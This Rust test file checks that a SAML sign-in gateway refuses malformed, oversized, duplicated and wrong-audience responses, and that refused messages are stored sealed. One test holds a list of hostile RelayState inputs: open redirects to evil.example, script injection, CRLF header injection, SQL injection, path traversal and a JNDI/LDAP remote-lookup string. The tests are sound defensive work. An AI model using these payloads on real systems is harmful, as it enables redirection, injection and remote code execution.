//! Forms that no identity provider would let a browser post.

use crate::gateway::{Gateway, Underway, World, form, is_in};
use crate::user_agent::{Form, UserAgent};
use vestibule::cause::Cause;
use vestibule::crypto::Place;

/// A name, the cause, and how the form is made of what is under way and a right response.
type Case<'a> = (&'a str, Cause, &'a dyn Fn(&Underway, &str) -> Form);

#[actix_web::test]
async fn a_form_that_is_no_response_is_refused_and_the_next_sign_in_works() {
    let gateway = Gateway::start().await;
    let world = World::of(&gateway);
    let state = |it: &Underway| it.relay_state.clone();
    let cases: [Case; 6] = [
        ("nothing", Cause::XmlInvalid, &|it, _| form(&it.asked.acs, &[("RelayState", &state(it))])),
        ("an empty field", Cause::XmlInvalid, &|it, _| it.form("")),
        ("no base64", Cause::XmlInvalid, &|it, _| it.form("!!! not base64 !!!")),
        ("two responses", Cause::XmlInvalid, &|it, right| {
            let fields =
                [("SAMLResponse", right), ("SAMLResponse", right), ("RelayState", &state(it))];
            form(&it.asked.acs, &fields)
        }),
        ("two relay states", Cause::XmlInvalid, &|it, right| {
            let state = state(it);
            let fields = [("SAMLResponse", right), ("RelayState", &state), ("RelayState", &state)];
            form(&it.asked.acs, &fields)
        }),
        ("1.5 MB", Cause::ResponseTooLarge, &|it, _| it.form(&"QUJD".repeat(375_000))),
    ];
    for (name, cause, make) in cases {
        world
            .refuses(name, cause, |underway| {
                make(underway, &world.answer(underway).base64().unwrap())
            })
            .await;
    }
}

#[actix_web::test]
async fn ten_megabytes_are_refused_and_the_next_sign_in_works() {
    let gateway = Gateway::start().await;
    let world = World::of(&gateway);
    let mut agent = UserAgent::new();
    let underway = world.begin(&mut agent).await;
    let page = agent.submit_once(&underway.form(&"QUJD".repeat(2_500_000))).await;
    // Nothing of it was read, so the trace is one of its own.
    world.refused("10 MB", Cause::ResponseTooLarge, &page);
    world.works().await;
}

#[actix_web::test]
async fn a_relay_state_with_an_address_leads_nowhere() {
    let gateway = Gateway::start().await;
    let world = World::of(&gateway);
    let long = "evil".repeat(20_000);
    for relay_state in [
        "https://evil.example/",
        "//evil.example",
        "/\\evil.example",
        "https:evil.example",
        "javascript:alert('evil')",
        "data:text/html,evil",
        "%68ttps://evil.example/",
        "evil\r\nLocation: https://evil.example/",
        "evil\0",
        "\"><script>evil</script>",
        "' OR 'evil'='evil",
        "${jndi:ldap://evil.example/}",
        "../../evil",
        "",
        "trc_00000000000000000000000000",
        "trc_evil",
        &long,
    ] {
        let mut agent = UserAgent::new();
        let underway = world.begin(&mut agent).await;
        let response = world.answer(&underway).base64().unwrap();
        let fields = [("SAMLResponse", response.as_str()), ("RelayState", relay_state)];
        // The response itself says what it answers.
        let page = agent.submit_once(&form(&underway.asked.acs, &fields)).await;
        is_in(&page);
        assert!(!format!("{:?}{}", page.headers, page.body).contains("evil"), "{page:?}");
    }
}

#[actix_web::test]
async fn a_refused_message_is_kept_sealed_and_only_of_whom_asked_for_it() {
    let gateway = Gateway::start().await;
    let world = World::of(&gateway);
    let mut agent = UserAgent::new();
    let underway = world.begin(&mut agent).await;
    let mut answer = world.answer(&underway);
    answer.audiences = vec!["https://elsewhere.example".to_owned()];
    let field = answer.base64().unwrap();
    let page = agent.submit_once(&underway.form(&field)).await;
    world.refused("audience", Cause::AudienceMismatch, &page);
    let trace = gateway.last_trace();
    let sealed = trace.message.as_deref().unwrap();
    assert!(!sealed.contains(&field[..40]), "{sealed}");
    let place = |row| Place { table: "traces", column: "message", row };
    let opened = gateway.state.master.open(sealed, &place(trace.id.as_str())).unwrap();
    assert_eq!(opened.reveal(), field.as_bytes());
    // It belongs to this trace, and to no other.
    assert!(gateway.state.master.open(sealed, &place("trc_other")).is_err());
    // What nobody here asked for is not kept.
    let stranger = form(&world.connection.acs(&gateway.url), &[("SAMLResponse", &field)]);
    UserAgent::new().submit_once(&stranger).await;
    assert_ne!(gateway.last_trace().id, trace.id);
    assert_eq!(gateway.last_trace().message, None);
    // Nor what is accepted.
    world.works().await;
    assert_eq!(gateway.last_trace().message, None);
}
